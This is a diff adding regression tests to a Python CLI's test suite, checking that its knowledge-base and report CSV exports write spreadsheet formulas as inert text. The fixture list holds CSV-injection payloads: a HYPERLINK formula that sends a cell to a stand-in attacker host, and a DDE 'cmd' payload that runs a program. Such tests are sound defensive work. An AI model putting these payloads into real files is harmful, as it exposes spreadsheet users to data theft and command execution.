@@ -8,6 +8,8 @@ output, 2 unusable input or configuration; one line, never a traceback;
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import signal
 import subprocess
@@ -23,8 +25,11 @@ from click.testing import CliRunner
 from aftersales.app import AfterSales
 from aftersales.cli import main
 from aftersales.cli_support import CliState
+from aftersales.csv_cells import FORMULA_LEADS
 from aftersales.errors import TransientError
 from aftersales.models import Page, ReturnRequest, Review
+from aftersales.reports.export import write_csv
+from aftersales.reports.rows import CountRow, ReportTable
 from aftersales.sandbox import SandboxMarketplace
 from aftersales.store.cursors import get_cursor
 
@@ -182,3 +187,40 @@ def test_a_worker_once_stopped_by_sigterm_is_not_status_0(tmp_path: Path) -> Non
     assert "return_timers: error: not run: the worker was stopped" in out
     assert "stopped by SIGTERM" in err
     assert "Traceback" not in err
+
+
+# --------------------------------------------------------------- CSV exports
+
+_FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)",
+             "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
+
+
+def test_the_kb_csv_export_writes_formulas_as_text_and_reads_them_back(
+        sqlite_url: str, tmp_path: Path) -> None:
+    # Rule: no CSV the library writes runs as a formula in a spreadsheet
+    # (CSV injection). Before: `kb export x.csv` wrote an imported answer
+    # "=HYPERLINK(...)" as a live formula.
+    for i, text in enumerate(_FORMULAS):
+        added = _invoke("--database-url", sqlite_url, "kb", "add", "--key", f"f{i}",
+                        "--question", text, "--answer-zh", text, "--answer-en", text)
+        assert added.exit_code == 0, added.output
+    out = tmp_path / "kb.csv"
+    assert _invoke("--database-url", sqlite_url, "kb", "export", str(out)).exit_code == 0
+    with out.open(encoding="utf-8", newline="") as fh:
+        cells = [c for row in list(csv.reader(fh))[1:] for c in row]
+    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]
+    assert "'" + _FORMULAS[0] in cells
+    again = _invoke("--database-url", sqlite_url, "--json", "kb", "import", str(out))
+    assert again.exit_code == 0, again.output
+    assert json.loads(again.stdout) == {"added": 0, "updated": 0, "unchanged": len(_FORMULAS)}
+
+
+def test_report_csv_writes_text_formulas_as_text_and_numbers_as_numbers() -> None:
+    # Rule as above: a SKU or reason from a marketplace is text in the report CSV.
+    table = ReportTable("returns", "sku", CountRow,
+                        [CountRow(key=text, count=-3) for text in _FORMULAS])
+    out = io.StringIO()
+    write_csv(table, out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
+    assert [r[0] for r in rows] == ["'" + text for text in _FORMULAS]
+    assert {r[1] for r in rows} == {"-3"}
